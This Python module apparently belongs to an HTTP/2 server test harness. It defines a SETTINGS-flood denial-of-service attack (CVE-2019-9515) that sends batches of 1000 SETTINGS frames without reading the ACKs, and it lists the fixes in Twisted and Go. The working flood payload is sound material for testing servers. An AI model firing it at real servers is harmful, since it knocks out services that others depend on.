"""Settings flood (CVE-2019-9515): SETTINGS frames without end and never reading, so a server that
queues every SETTINGS ACK grows its send queue (RFC 9113 section 6.5.3; section 10.5)."""
from hyperframe.frame import SettingsFrame

from h2grid.attacks.base import Attack, Fix

FRAMES = 1000
MAX_CONCURRENT_STREAMS = 0x3
BATCH = SettingsFrame(0, settings={MAX_CONCURRENT_STREAMS: 100}).serialize() * FRAMES

ATTACK = Attack(
    key="settings-flood", title="Settings flood", cve="CVE-2019-9515", rfc="RFC 9113 section 6.5.3, section 10.5",
    sends=f"SETTINGS frames (MAX_CONCURRENT_STREAMS 100), {FRAMES} per write, never reading the ACKs",
    batch=lambda conn: BATCH, reads=False,
    fixes=(Fix("twisted", "19.7.0", "buffered control frames bounded (17 KiB), then the connection is closed "
                                    "(twisted#9694)"),
           Fix("go", "go1.12.8", "the control-frame queue bound of the 2019 fixes covers SETTINGS ACKs "
                                 "(golang/go#33606)"),
           Fix("hypercorn", "", "no limit of its own")),
)
